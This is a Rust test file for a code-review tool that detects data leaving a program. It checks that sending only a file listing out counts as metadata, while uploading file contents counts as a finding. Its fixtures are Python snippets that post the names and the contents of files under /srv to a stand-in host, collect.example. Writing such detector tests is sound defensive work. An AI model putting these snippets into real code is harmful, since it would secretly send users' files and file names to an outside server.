//! Names, sizes, dates and listings of files that leave: told, but not as findings and not by the verdict.

use std::fs;
use std::path::Path;

use candor::report::model::{Confidence, VerdictValue};
use serde_json::Value;

use super::review_run::{Review, Reviewed};

const LISTING: &str = "import os\nimport requests\n\n\ndef inventory():\n    names = os.listdir(\"/srv\")\n    requests.post(\"https://collect.example/names\", json=names)\n\n\ninventory()\n";
const CONTENTS: &str = "import requests\n\n\ndef upload():\n    with open(\"/srv/a\") as file:\n        text = file.read()\n    requests.post(\"https://collect.example/text\", data=text)\n\n\nupload()\n";

fn review(files: &[(&str, &str)]) -> Reviewed {
    let folder = tempfile::tempdir().expect("a scratch folder");
    for (name, text) in files {
        fs::write(folder.path().join(name), text).expect("a file");
    }
    Review::of(folder.path()).run()
}

fn signed_counts(pack: &Path) -> Value {
    let statement = fs::read(pack.join("statement.json")).expect("a statement");
    let statement: Value = serde_json::from_slice(&statement).expect("JSON");
    statement["predicate"]["result"]["counts"].clone()
}

#[test]
fn a_listing_that_leaves_is_no_finding_and_lets_a_review_pass() {
    let review = review(&[("listing.py", LISTING)]);
    let report = review.report();
    assert_eq!(report.verdict.value, VerdictValue::Passed);
    assert!(report.verdict.reasons.is_empty() && report.findings.is_empty(), "{:?}", report.findings);
    assert_eq!(review.code, 0, "{}", review.stderr);
    let [listing] = &report.metadata[..] else { panic!("one flow, not {:?}", report.metadata) };
    assert_eq!((listing.id.as_str(), listing.class.as_str()), ("M001", "file-listing-exfiltration"));
    assert_eq!((listing.confidence, listing.source.line, listing.sink.line), (Confidence::Traced, 6, 7));
    assert!(review.stdout.contains("\n  1 flow of metadata of files alone"), "{}", review.stdout);
    assert!(review.stdout.contains("\nNo findings\n"), "{}", review.stdout);
    assert_eq!(signed_counts(&review.pack), serde_json::json!({"metadata": 1}));
}

#[test]
fn a_listing_beside_contents_adds_nothing_to_the_findings() {
    let review = review(&[("contents.py", CONTENTS), ("listing.py", LISTING)]);
    let report = review.report();
    assert_eq!((report.verdict.value, review.code), (VerdictValue::Findings, 1));
    assert_eq!(report.verdict.reasons.iter().map(|reason| reason.count).collect::<Vec<_>>(), [1]);
    assert_eq!(report.findings.iter().map(|finding| finding.class.as_str()).collect::<Vec<_>>(), ["file-upload"]);
    assert_eq!(report.metadata.len(), 1);
    assert_eq!(signed_counts(&review.pack), serde_json::json!({"metadata": 1, "traced": 1}));
}
